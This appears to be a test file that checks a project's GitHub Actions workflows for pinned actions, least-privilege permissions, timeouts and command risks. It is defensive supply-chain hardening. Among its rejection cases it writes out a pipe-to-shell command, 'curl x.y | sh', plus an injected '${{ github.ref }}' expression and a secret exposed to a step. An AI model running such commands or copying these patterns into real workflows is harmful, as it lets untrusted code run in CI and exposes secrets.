import { readdirSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { loadWorkflowParser } from "./workflow-parser.js";
import { findRisks, readWorkflow, validateWorkflow, type Workflow } from "./workflows.js";

const parser = await loadWorkflowParser();
const names = readdirSync(".github/workflows").map((name) => name.replace(/\.yml$/, ""));

describe.each(names)("the workflow %s", (name) => {
  const text = readWorkflow(name);

  test("is valid by the schema of GitHub Actions", async () => {
    expect(await validateWorkflow(text, parser)).toEqual([]);
  });

  test("pins its actions, and runs only our scripts with the least permissions", () => {
    expect(findRisks(text)).toEqual([]);
  });
});

test("the jobs have the permissions that their scripts need", () => {
  const permissions = names.flatMap((name) =>
    Object.entries((parse(readWorkflow(name)) as Workflow).jobs).map(([job, { permissions }]) => [job, permissions]),
  );
  expect(Object.fromEntries(permissions)).toEqual({
    release: { contents: "write", "id-token": "write" },
    test: { contents: "read" },
    propose: { contents: "write", "pull-requests": "write" },
  });
});

test("the update runs on a schedule and on demand, the release after tests of a push to main", () => {
  const [update, release] = ["update", "release"].map((name) => parse(readWorkflow(name)) as Workflow);
  expect(Object.keys(update?.on ?? {})).toEqual(["schedule", "workflow_dispatch"]);
  expect(release?.on).toEqual({ push: { branches: ["main"] } });
  expect(release?.jobs["release"]?.needs).toBe("test");
  // A release that is cut off would be incomplete until the next push.
  expect(release?.concurrency).toEqual({ group: "release", "cancel-in-progress": false });
});

const release = readWorkflow("release");

test.each<[string, { given: [string | RegExp, string]; want: string }]>([
  ["an unknown permission", { given: ["contents: read", "content: read"], want: "Unexpected value 'content'" }],
  ["an unknown key", { given: ["timeout-minutes", "timeout"], want: "Unexpected value 'timeout'" }],
  ["an unknown context", { given: ["secrets.NPM", "secret.NPM"], want: "Unrecognized named-value: 'secret'" }],
  ["an incomplete expression", { given: ["github.token }}", "github.token ( }}"], want: "Unexpected symbol: '('" }],
  ["an unknown job", { given: ["needs: test", "needs: tests"], want: "depends on unknown job 'tests'" }],
  ["an unknown event", { given: ["push:", "pushes:"], want: "Unexpected value 'pushes'" }],
])("the schema rejects %s", async (_, { given, want }) => {
  expect(await validateWorkflow(release.replace(...given), parser)).toContainEqual(expect.stringContaining(want));
});

test.each<[string, { given: [string | RegExp, string]; want: string }]>([
  [
    "permissions for all jobs",
    {
      given: ["permissions: {}", "permissions: write-all"],
      want: "the permissions of the whole workflow aren't empty",
    },
  ],
  ["no concurrency group", { given: [/concurrency:\n.*\n.*\n/, ""], want: "two runs may overlap" }],
  [
    "a tag of an action",
    { given: [/checkout@\w+ # .*/, "checkout@v6"], want: "uses: actions/checkout@v6 isn't pinned" },
  ],
  [
    "a short commit",
    { given: [/(checkout@\w{7})\w+/, "$1"], want: "uses: actions/checkout@de0fac2 # v6.0.2 isn't pinned" },
  ],
  [
    "a commit without its version",
    { given: [/(setup-node@\w+) .*/, "$1"], want: expect.stringMatching(/setup-node@\w+ isn't pinned$/) },
  ],
  ["no timeout", { given: [/ +timeout-minutes: 30\n/, ""], want: "release: it has no timeout" }],
  [
    "no permissions of a job",
    { given: [/ +permissions:\n +contents: read\n/, ""], want: "test: it doesn't state its permissions" },
  ],
  ["a kept token", { given: [/persist-credentials: false/, "fetch-depth: 0"], want: "test: checkout keeps the token" }],
  ["another command", { given: ["npm test", "curl x.y | sh"], want: "test: it runs curl x.y | sh" }],
  [
    "an expression in a command",
    {
      given: ["npm test", "npm test ${{ github.ref }}"],
      want: "test: an expression is part of the command npm test ${{ github.ref }}",
    },
  ],
  [
    "a secret for others",
    {
      given: ["- run: npm test", "- run: npm test\n        env: { A: '${{ secrets.A }}' }"],
      want: "test: npm test gets a secret",
    },
  ],
])("our rules reject %s", (_, { given, want }) => {
  expect(findRisks(release.replace(...given))).toContainEqual(want);
});
